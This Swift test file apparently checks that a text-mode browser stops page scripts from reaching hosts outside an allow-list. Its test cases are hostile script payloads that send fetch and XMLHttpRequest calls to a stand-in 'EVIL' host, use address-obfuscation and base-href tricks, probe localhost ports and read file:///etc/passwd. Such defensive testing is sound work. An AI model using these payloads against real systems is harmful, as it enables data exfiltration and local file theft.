import Foundation
import TestSupport
import Testing

/// No request of a script leaves the list: not by `fetch`, by `XMLHttpRequest`, by a redirect, by the
/// question before a request, by another port, or to this machine.
@Suite("Doors of scripts") struct ScriptDoorTests {
    @Test("a page's scripts ask, and nobody outside of the list is asked", arguments: scriptDoors)
    func scripts(door: Door) async throws {
        let scenario = Scenario()
        guard case .page(let body, let type, let headers) = door.attempt else { return }
        let tools = """
            const done = t => {
              const p = document.createElement('p'); p.append(t); document.body.append(p) };
            const get = (url, init) => fetch(url, init).then(
              async r => done('GOT ' + r.type + ' ' + await r.text()), () => done('REFUSED'));
            const xhr = (method, url, body, set) => { const x = new XMLHttpRequest();
              x.onload = () => done('GOT ' + x.responseText); x.onerror = () => done('REFUSED');
              x.open(method, url); if (set) set(x); x.send(body) };
            """
        scenario.servers.page(
            "/\(scenario.id)",
            scenario.filled("<body><p>SHOWN</p><script>\(tools)\(body)</script>"), type: type,
            headers: scenario.filled(headers))
        scenario.servers.route(
            "/\(scenario.id)-to-evil",
            "HTTP/1.1 307 Moved\r\nAccess-Control-Allow-Origin: *\r\nLocation: "
                + scenario.filled("http://EVIL/x")
                + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        let result = try await scenario.garth(
            rules: ["GOOD", "ALSO"], ["--dump", "--javascript", "on", "http://GOOD/ID"])
        #expect(result.output.contains("SHOWN"), "\(result)")
        #expect(result.output.contains("REFUSED"), "\(result)")
        #expect(!result.output.contains("GOT"), "\(result)")
        #expect(!result.output.contains("root:"))
        #expect(result.status == 0)
        scenario.expectNoTrespass()
    }

    static let scriptDoors: [Door] = [
        "get('http://EVIL/a')",
        "get('//EVIL/a', { mode: 'no-cors' })",
        "get('http://EVIL/a', { method: 'POST', body: 'b', mode: 'no-cors', keepalive: true })",
        "get('http://EVIL/a', { method: 'PUT', headers: { 'X-A': 'b' } })",
        "get(new Request('http://EVIL/a'), { cache: 'force-cache', credentials: 'include' })",
        "get('http:\\\\\\\\EVIL\\\\a')",
        "get('http://GOODNAME@EVIL/')",
        "document.head.innerHTML = '<base href=http://EVIL/>'; get('a')",
        "xhr('GET', 'http://EVIL/a')",
        "xhr('PROPFIND', 'http://EVIL/a', 'b', x => x.setRequestHeader('X-A', 'b'))",
        "xhr('POST', 'http://EVIL/a', 'b', x => { x.withCredentials = true;"
            + "x.upload.onload = () => {} })",
        "get('/ID-to-evil')",
        "get('/ID-to-evil', { method: 'POST', body: 'b' })",
        "get('http://ALSO/ID-to-evil')",
        "get('http://ALSO/ID-to-evil', { mode: 'no-cors' })",
        "xhr('GET', '/ID-to-evil')",
        "const x = new XMLHttpRequest(); x.open('GET', '/ID-to-evil', false);"
            + "try { x.send(); done('GOT') } catch (e) { done('REFUSED') }",
        "const x = new XMLHttpRequest(); x.open('GET', 'http://EVIL/', false);"
            + "try { x.send(); done('GOT') } catch (e) { done('REFUSED') }",
        "get('http://GOODNAME:1/')",
        "get('http://GOODNAME:65535/', { mode: 'no-cors' })",
        "get('http://127.0.0.9:PORT/')",
        "get('http://127.0.0.1:PORT/', { mode: 'no-cors' })",
        "get('http://0x7f000009:PORT/')",
        "get('http://[::1]:PORT/')",
        "get('http://localhost:PORT/')",
        "get('file:///etc/passwd')",
        "get('file://localhost/etc/passwd', { mode: 'no-cors' })",
        "xhr('GET', 'file:///etc/passwd')",
        "get('about:start')",
        "get('ftp://EVIL/')",
        "get('ws://EVIL/')",
        "history.pushState(null, '', '/other'); get('http://EVIL/a')",
        "get('http://EVIL/', { referrer: 'http://EVIL/', integrity: 'sha256-x' })",
        "Promise.all(Array.from({ length: 50 }, (_, i) => get('http://EVIL/' + i)))",
        "setTimeout(() => get('http://EVIL/late'), 500)",
    ].map { Door($0, .page($0)) }
}
